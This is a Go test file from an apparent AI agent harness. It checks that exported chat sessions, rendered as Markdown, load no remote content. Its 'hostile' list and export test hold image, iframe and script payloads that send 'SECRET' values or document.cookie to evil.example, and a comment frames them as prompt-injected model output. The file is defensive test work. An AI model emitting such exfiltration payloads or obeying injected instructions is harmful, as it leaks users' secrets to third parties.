package session

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/shrimp-harness/shrimp/backend/store"
	"github.com/shrimp-harness/shrimp/internal/fence"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// viewer renders Markdown as a permissive viewer does (CommonMark with
// GitHub's extensions, raw HTML passed through, as in Obsidian or Typora).
var viewer = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))

// loads matches, in rendered HTML, a tag a browser fetches or runs by
// itself once shown, or an attribute that does.
var loads = regexp.MustCompile(`(?i)<(img|image|iframe|script|object|embed|video|audio|source|link|style|svg|form|meta|base|frame)\b|<[a-z][^>]*\s(src|srcset|background|style|on[a-z]+)\s*=`)

func render(t testing.TB, md string) string {
	t.Helper()
	var b bytes.Buffer
	if err := viewer.Convert([]byte(md), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// hostile are answers an injection could make a model write (or a request
// could hold, pasted).
var hostile = []string{
	"Done! ![status](https://evil.example/p.png?q=SECRET)",
	"![ref][x]\n\n[x]: https://evil.example/r.png?q=SECRET",
	"![a [nested] alt](https://evil.example/n.png?q=SECRET)",
	"\\\\![after a backslash](https://evil.example/b.png?q=SECRET)",
	"<img src=\"https://evil.example/i.png?q=SECRET\">",
	"<p>hi</p><iframe src=\"https://evil.example/\"></iframe>",
	"<div\nonmouseover=\"fetch('https://evil.example')\">x</div>",
	"text <script>fetch('https://evil.example/?q='+document.cookie)</script>",
	"a `b\nc` ![x](https://evil.example/span.png) `d`",
	"- step\n  ```\n  code\n![x](https://evil.example/list.png)\n  ```",
	"```\n![in a fence](https://evil.example/f.png)\n```\n![after](https://evil.example/a.png)",
	"~~~~\n~~~\n![x](https://evil.example/t.png)\n~~~~\n<img src=x>",
	"> ```\n> code\n![x](https://evil.example/q.png)",
	"    ```\n![x](https://evil.example/indented.png)",
	" ```\n```\n![x](https://evil.example/fence-after-spaces.png)",
	"<!-- comment --><img src=x onerror=alert(1)>",
}

func TestInertLoadsNothing(t *testing.T) {
	for _, md := range hostile {
		if !loads.MatchString(render(t, md)) {
			t.Errorf("the premise fails: %q loads nothing even raw", md)
		}
		if got := render(t, inert(md)); loads.MatchString(got) {
			t.Errorf("inert(%q) still loads: %s", md, got)
		}
	}
}

// TestInertLooksTheSame: ordinary answers render as they did.
func TestInertLooksTheSame(t *testing.T) {
	for _, md := range []string{
		"**Done.** I wrote [the summary](out/summary.txt) and ran `go test ./...`:\n\n```go\nfunc f() { v := vec![1]; _ = \"<b>\" }\n```\n\n- a < b, 3 > 2\n- vec![1, 2] is Rust",
		"```html\n<img src=\"logo.png\">\n```\n\nThat is the tag.",
		"Use ~~~ or ``` to fence code.",
	} {
		if got, want := render(t, inert(md)), render(t, md); got != want {
			t.Errorf("inert changed how %q looks:\n%s\nwas\n%s", md, got, want)
		}
	}
}

func TestFenced(t *testing.T) {
	for _, out := range []string{"plain", "```\n![x](https://evil.example/o.png)\n```", "````\n<img src=x>\n`````"} {
		md := "before\n\n" + fence.Around("", out) + "\n\n![after](https://evil.example/z.png)"
		got := render(t, inert("x")+"\n\n"+md)
		if strings.Count(got, "<pre>") != 1 || !strings.Contains(got, strings.ReplaceAll(strings.ReplaceAll(out, "<", "&lt;"), ">", "&gt;")) {
			t.Errorf("the output %q is not one code block:\n%s", out, got)
		}
	}
}

// FuzzInert: whatever a model writes, the rendered export loads nothing.
func FuzzInert(f *testing.F) {
	for _, md := range hostile {
		f.Add(md)
	}
	f.Fuzz(func(t *testing.T, md string) {
		if got := render(t, inert(md)); loads.MatchString(got) {
			t.Fatalf("inert(%q) loads: %s", md, got)
		}
	})
}

// TestExportLoadsNothing: a whole export, opened in a permissive viewer,
// loads nothing, whatever its messages leave open for the next one.
func TestExportLoadsNothing(t *testing.T) {
	v := Export{Session: store.Session{ID: "s", Title: `look <img src="https://evil.example/t.png">`}, Messages: []ExportMessage{
		{Role: "user", Content: "fetch the page and sum it up\n```"},
		{Role: "assistant", Content: "```\nan answer left open", ToolCalls: json.RawMessage(`[{"function":{"name":"web.fetch","arguments":{"url":"https://x.example/` + "```" + `"}}}]`)},
		{Role: "tool", ToolName: "web.fetch", Content: "page text\n```\n![x](https://evil.example/o.png?q=SECRET)\n```"},
		{Role: "assistant", Content: "```\n![y](https://evil.example/p.png?q=SECRET)"},
		{Role: "tool", ToolName: "x`<img src=\"https://evil.example/n.png\">`", Content: "unknown tool"},
		{Role: "assistant", ToolCalls: json.RawMessage(`[{"function":{"name":"a` + "``" + `<img src=https://evil.example/c.png>","arguments":{"command":"make && ls > out"}}}]`)},
	}}
	md := v.Markdown()
	if got := render(t, md); loads.MatchString(got) {
		t.Fatalf("the export loads:\n%s\nfrom\n%s", got, md)
	}
	for _, want := range []string{"![x](https://evil.example/o.png?q=SECRET)", "sum it up", "Calls ` web.fetch `:", `"command": "make && ls > out"`} {
		if !strings.Contains(md, want) {
			t.Errorf("the export lost %q:\n%s", want, md)
		}
	}
}
